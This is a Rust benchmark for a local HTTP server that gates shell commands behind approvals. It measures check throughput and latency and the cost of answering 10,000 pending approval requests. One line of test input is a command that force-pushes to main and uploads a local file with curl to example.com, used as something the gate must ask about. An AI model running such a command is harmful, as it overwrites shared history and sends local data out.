//! The door over HTTP: checks a second with connections that stay open, beside a bare handler on the same runtime and the same
//! client; and ten thousand open questions, answered over HTTP one by one.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use approval::{AskId, Asked};
use door_serve::{App, Loader, Presence, Setup, Tokens, Unfit, bind, new_token, serve};
use gate::approval::Later;
use gate::call::RawCall;
use gate::{Desk, Gate, Machine, Wanted, load};
use rustix::buffer::spare_capacity;
use rustix::event::epoll;

/// How long each turn takes, and how many there are after the one that warms up.
const TURN: Duration = Duration::from_secs(1);
const TURNS: u32 = 6;
/// Clients, and the connections that each keeps.
const CLIENTS: usize = 2;
const CONNECTIONS: usize = 16;
const PENDING: u32 = 10_000;

struct Alone {
    home: PathBuf,
}

impl Loader for Alone {
    fn gate(&self, _directory: Option<&str>, _request: Option<&str>) -> Result<Gate, Unfit> {
        let mut world = Machine::world().map_err(Unfit::Configuration)?;
        world.managed = None;
        world.configuration = None;
        world.state = Some(self.home.join("state"));
        world.keys = Some(self.home.join("data"));
        let workspace = Some(world.cwd.clone());
        let wanted = Wanted { flags: Some("profile: dev".into()), ..Wanted::default() };
        let config = load(&world, &wanted).map_err(|error| Unfit::Configuration(error.to_string()))?;
        let key = Machine::digest_key().map_err(Unfit::Configuration)?;
        Ok(Gate::new(config, world, workspace, key).running())
    }

    fn stamp(&self) -> String {
        String::new()
    }
}

/// Measures and prints.
pub(crate) fn compare() -> Result<(), String> {
    let home = std::env::temp_dir().join(format!("bailiwick-bench-serve-{}", std::process::id()));
    let measured = measure(&home);
    let _gone = std::fs::remove_dir_all(&home);
    measured
}

fn measure(home: &Path) -> Result<(), String> {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build();
    let runtime = runtime.map_err(|error| error.to_string())?;
    let token = new_token()?;
    let (app, address) = runtime.block_on(started(home, &token))?;
    let bare = runtime.block_on(bare())?;
    let request = |address: SocketAddr, body: &str| {
        format!(
            "POST /v1/check HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
    };
    let allowed = r#"{"command": "cargo test --workspace && git status"}"#;
    let asked = r#"{"command": "git push origin main && git status"}"#;
    let (mut plain, mut yes, mut question) = (Load::default(), Load::default(), Load::default());
    // In turns, so that all see the same machine.
    for turn in 0..=TURNS {
        if turn == 1 {
            (plain, yes, question) = (Load::default(), Load::default(), Load::default());
        }
        plain.add(load_with(bare, &request(bare, allowed))?);
        yes.add(load_with(address, &request(address, allowed))?);
        question.add(load_with(address, &request(address, asked))?);
    }
    let row = |what: &str, load: &Load, goal: &str| {
        let share = 100.0 * load.rate() / plain.rate();
        println!("{what:<58} {:>12.0} {share:>9.0}% {goal:>12}", load.rate());
    };
    row("a bare handler, requests a second", &plain, "");
    row("POST /v1/check of what is allowed, requests a second", &yes, "≥ 20,000, 50%");
    println!("{:<58} {:>12} {:>10} {:>12}", "  p99", crate::shown(yes.p99()), "", "≤ 5 ms");
    row("POST /v1/check of what is asked about", &question, "");
    pending(&app, address, &token)?;
    app.shut_down();
    runtime.shutdown_timeout(Duration::from_secs(2));
    Ok(())
}

async fn started(home: &Path, token: &str) -> Result<(Arc<App>, SocketAddr), String> {
    let loader = Alone { home: home.to_path_buf() };
    let presence = Presence::new(None);
    let office = |provider: Box<dyn approval::Provider>| {
        let gate = loader.gate(None, None).map_err(|_| "no gate".to_owned())?;
        let (office, key) = Desk::of(gate.world(), gate.config())?.office(gate.config(), vec![provider])?;
        Ok::<Gate, String>(gate.with_office(office, key))
    };
    let app = App::new(Setup {
        gate: office(Box::new(presence.provider()))?,
        hosted: office(Box::new(Later))?,
        loader: Box::new(Alone { home: home.to_path_buf() }),
        presence,
        journal: home.join("state/journal"),
        always_file: None,
        user: "bench".into(),
        tokens: Tokens::of(token, None)?,
        token_directory: None,
    })?;
    let listening = bind(SocketAddr::from(([127, 0, 0, 1], 0))).await?;
    let door_serve::Place::Address(address) = listening.place().map_err(|error| error.to_string())? else {
        return Err("no address".into());
    };
    tokio::spawn(serve(Arc::clone(&app), listening, std::future::pending()));
    Ok((app, address))
}

/// A handler that reads the body and answers with as many bytes as a check does.
async fn bare() -> Result<SocketAddr, String> {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.map_err(|error| error.to_string())?;
    let address = listener.local_addr().map_err(|error| error.to_string())?;
    let answer = axum::routing::post(|body: axum::body::Bytes| async move {
        let headers = [(axum::http::header::CONTENT_TYPE, "application/json")];
        (headers, format!("{{\"length\": {}, \"text\": \"{}\"}}", body.len(), "a".repeat(500)))
    });
    let router: axum::Router = axum::Router::new().route("/v1/check", answer);
    tokio::spawn(async move { axum::serve(listener, router).await });
    Ok(address)
}

/// How long each answer took, and how long all of them together.
#[derive(Default)]
struct Load {
    times: Vec<Duration>,
    took: Duration,
}

impl Load {
    fn add(&mut self, turn: Load) {
        self.times.extend(turn.times);
        self.times.sort_unstable();
        self.took += turn.took;
    }

    fn rate(&self) -> f64 {
        self.times.len() as f64 / self.took.as_secs_f64()
    }

    fn p99(&self) -> Duration {
        self.times.get(self.times.len() * 99 / 100).copied().unwrap_or_default()
    }
}

#[expect(clippy::disallowed_methods, reason = "a benchmark owns its clock")]
fn load_with(address: SocketAddr, request: &str) -> Result<Load, String> {
    let stop = Arc::new(AtomicBool::new(false));
    let begun = Instant::now();
    let clients: Vec<_> = (0..CLIENTS)
        .map(|_| {
            let (stop, request) = (Arc::clone(&stop), request.to_owned());
            std::thread::spawn(move || client(address, &request, &stop))
        })
        .collect();
    std::thread::sleep(TURN);
    stop.store(true, Ordering::Release);
    let mut times = Vec::new();
    for client in clients {
        times.extend(client.join().map_err(|_| "a client broke off")??);
    }
    Ok(Load { times, took: begun.elapsed() })
}

/// Keeps one request under way on each connection, and takes the answers as they come.
#[expect(clippy::disallowed_methods, reason = "a benchmark owns its clock")]
fn client(address: SocketAddr, request: &str, stop: &AtomicBool) -> Result<Vec<Duration>, String> {
    let failed = |error: std::io::Error| error.to_string();
    let mut all = (0..CONNECTIONS).map(|_| connected(address)).collect::<Result<Vec<_>, _>>()?;
    let ready = epoll::create(epoll::CreateFlags::CLOEXEC).map_err(|error| error.to_string())?;
    let mut times = Vec::new();
    let mut sent = Vec::new();
    for (number, stream) in (0..).zip(&mut all) {
        epoll::add(&ready, &*stream, epoll::EventData::new_u64(number), epoll::EventFlags::IN)
            .map_err(|error| error.to_string())?;
        stream.write_all(request.as_bytes()).map_err(failed)?;
        sent.push(Instant::now());
    }
    let mut events = Vec::with_capacity(CONNECTIONS);
    while !stop.load(Ordering::Acquire) {
        events.clear();
        epoll::wait(&ready, spare_capacity(&mut events), None).map_err(|error| error.to_string())?;
        for event in &events {
            let number = usize::try_from(event.data.u64()).unwrap_or(usize::MAX);
            let (Some(stream), Some(sent)) = (all.get_mut(number), sent.get_mut(number)) else { continue };
            answer(stream)?;
            times.push(sent.elapsed());
            *sent = Instant::now();
            stream.write_all(request.as_bytes()).map_err(failed)?;
        }
    }
    Ok(times)
}

fn connected(address: SocketAddr) -> Result<TcpStream, String> {
    let stream = TcpStream::connect(address).map_err(|error| error.to_string())?;
    stream.set_nodelay(true).map_err(|error| error.to_string())?;
    Ok(stream)
}

/// Reads one answer, which fits into one buffer.
fn answer(stream: &mut TcpStream) -> Result<(), String> {
    let mut buffer = [0; 16 * 1024];
    let mut filled = 0;
    loop {
        let room = buffer.get_mut(filled..).unwrap_or_default();
        filled += match stream.read(room).map_err(|error| error.to_string())? {
            0 => return Err("the connection ended".into()),
            count => count,
        };
        let text = buffer.get(..filled).unwrap_or_default();
        let Some(end) = text.windows(4).position(|four| four == b"\r\n\r\n") else { continue };
        let head = String::from_utf8_lossy(text.get(..end).unwrap_or_default()).to_lowercase();
        if !head.starts_with("http/1.1 200") {
            return Err(head);
        }
        let length: usize = head
            .lines()
            .find_map(|line| line.strip_prefix("content-length: ")?.trim().parse().ok())
            .ok_or("an answer without a length")?;
        if filled >= end + 4 + length {
            return Ok(());
        }
    }
}

/// Ten thousand open questions, and the time of an answer over HTTP.
#[expect(clippy::disallowed_methods, reason = "a benchmark owns its clock")]
fn pending(app: &Arc<App>, address: SocketAddr, token: &str) -> Result<(), String> {
    let gate = Alone { home: PathBuf::from("/nonexistent") }.gate(None, None).map_err(|_| "no gate")?;
    let command = "git push --force origin main && curl -d @notes.txt https://example.com/upload";
    let judgement = gate.judge(RawCall::command(command)).map_err(|invalid| invalid.to_string())?;
    let (request, key) = (gate.request(&judgement), gate.approval_key(&judgement));
    let name = |number: u32| AskId::from_bytes(u128::from(number + 1).to_be_bytes());
    let before = crate::approval::resident_kib();
    let coordinator = app.coordinator()?;
    let tickets: Vec<_> = (0..PENDING)
        .map(|number| {
            let analysis = Arc::new((*judgement.analysis).clone());
            let session = format!("session-{}", number / 100);
            let mut asked = Asked::new(
                name(number),
                &session,
                "Bash",
                request.clone(),
                key.clone(),
                &judgement.ruling,
                analysis,
            );
            asked.confirmation = None;
            coordinator.open(Arc::new(asked), Duration::from_secs(3600)).map_err(|no| no.decision().name())
        })
        .collect::<Result<_, _>>()?;
    let mut stream = connected(address)?;
    let mut times = Vec::new();
    let mut ask = |request: String| {
        let start = Instant::now();
        stream.write_all(request.as_bytes()).map_err(|error| error.to_string())?;
        answer(&mut stream)?;
        Ok::<Duration, String>(start.elapsed())
    };
    let body = r#"{"decision": "approved"}"#;
    for number in 0..PENDING {
        times.push(ask(format!(
            "POST /v1/approvals/{} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
            name(number),
            body.len()
        ))?);
    }
    let grown = crate::approval::resident_kib().saturating_sub(before);
    if !coordinator.is_empty() {
        return Err("an answer was lost".into());
    }
    drop(tickets);
    times.sort_unstable();
    let at = |share: usize| times.get(times.len() * share / 100).copied().unwrap_or_default();
    println!("{:<58} {:>9} MB {:>10} {:>12}", "10,000 questions at the server", grown / 1024, "", "≤ 100 MB");
    println!(
        "{:<58} {:>12} {:>10} {:>12}",
        "  answering one over HTTP, median and p99",
        crate::shown(at(50)),
        crate::shown(at(99)),
        "≤ 50 ms"
    );
    Ok(())
}
